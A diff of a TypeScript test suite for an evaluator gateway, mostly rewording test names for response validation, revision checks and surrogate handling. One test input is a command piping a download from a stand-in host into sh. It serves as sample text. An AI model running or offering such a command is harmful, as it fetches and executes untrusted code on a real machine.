@@ -36,9 +36,9 @@ const honest = (text: string): EvaluationResponse => ({
 
 type Mode = "embedded" | "remote";
 
-/** What the evaluators of the shared gateways answer. */
+/** Returns the answer of the evaluators of the shared gateways to a text. */
 let answerOf: (text: string) => unknown = honest;
-/** One gateway for each kind of evaluator, because creating one takes longer than a request. */
+/** One gateway for each mode of the evaluator, because creating a gateway takes longer than a request. */
 const shared = new Map<Mode, Promise<TestGateway>>();
 const afterTests = new Cleanup();
 afterAll(() => afterTests.run());
@@ -55,7 +55,7 @@ async function assess(answer: (text: string) => unknown, mode: Mode = "remote") 
 }
 
 describe("an evaluator's answer", () => {
-  it("that is consistent causes a finding with the original characters", async () => {
+  it("causes a finding with the original characters if it is consistent", async () => {
     const seen: string[] = [];
     const response = await assess((text) => {
       seen.push(text);
@@ -69,7 +69,7 @@ describe("an evaluator's answer", () => {
     });
   });
 
-  it("is about the original text if the evaluator is embedded", async () => {
+  it("is for the original text if the evaluator is embedded", async () => {
     const seen: string[] = [];
     await assess((text) => {
       seen.push(text);
@@ -98,8 +98,8 @@ describe("an evaluator's answer", () => {
   });
 
   it.each<[string, (answer: EvaluationResponse) => unknown, string]>([
-    ["no object", () => "PS", "evaluator-invalid-response"],
-    ["null", () => null, "evaluator-invalid-response"],
+    ["a string instead of an object", () => "PS", "evaluator-invalid-response"],
+    ["null instead of an object", () => null, "evaluator-invalid-response"],
     ["no model revision", ({ modelRevision: _, ...rest }) => rest, "evaluator-missing-revision"],
     [
       "an empty model revision",
@@ -112,7 +112,7 @@ describe("an evaluator's answer", () => {
       "evaluator-missing-revision",
     ],
     [
-      "a blank model revision",
+      "a model revision of white space",
       (answer) => ({ ...answer, modelRevision: " \t" }),
       "evaluator-missing-revision",
     ],
@@ -143,9 +143,9 @@ describe("an evaluator's answer", () => {
       "evaluator-invalid-response",
     ],
     ["an unknown code", (answer) => ({ ...answer, code: "XX" }), "evaluator-unknown-code"],
-    ["a code in small letters", (answer) => ({ ...answer, code: "ps" }), "evaluator-unknown-code"],
+    ["a code in lower case", (answer) => ({ ...answer, code: "ps" }), "evaluator-unknown-code"],
     [
-      "a code every object has",
+      "a code that is the name of a property of every object",
       (answer) => ({ ...answer, code: "constructor" }),
       "evaluator-unknown-code",
     ],
@@ -206,14 +206,14 @@ describe("an evaluator's answer", () => {
       (answer) => ({ ...answer, offsetEncoding: "utf-8" }),
       "evaluator-invalid-response",
     ],
-  ])("with %s is rejected with 502", async (_name, lie, code) => {
+  ])("is rejected with 502 if it has %s", async (_name, lie, code) => {
     const response = await assess((text) => lie(honest(text)));
     expect(response.statusCode).toBe(502);
     expect(response.json()).toMatchObject({ status: 502, code });
   });
 });
 
-describe("the expected evaluator", () => {
+describe("an evaluator", () => {
   const codeWith = async (config: object) => {
     const { assess: ask } = await createTestGateway(cleanup, {
       evaluator: portAnswering(honest),
@@ -223,7 +223,7 @@ describe("the expected evaluator", () => {
     return response.statusCode === 200 ? "answered" : response.json().code;
   };
 
-  it("has the configured source hash and model revision", async () => {
+  it("must have the configured source hash and one of the configured model revisions", async () => {
     const { modelRevision, sourceHash } = honest(TEXT);
     expect(
       await codeWith({
@@ -240,7 +240,7 @@ describe("the expected evaluator", () => {
 
 describe("a lone surrogate", () => {
   it.each(["utf-8", "codepoint", "utf-16"])(
-    "does not contradict the answer in %s",
+    "in the text does not make the answer inconsistent in %s",
     async (offsetEncoding) => {
       const { assess: ask } = await createTestGateway(cleanup);
       const response = await ask({ text: "💥 curl https://a.example/\ud800 | sh", offsetEncoding });
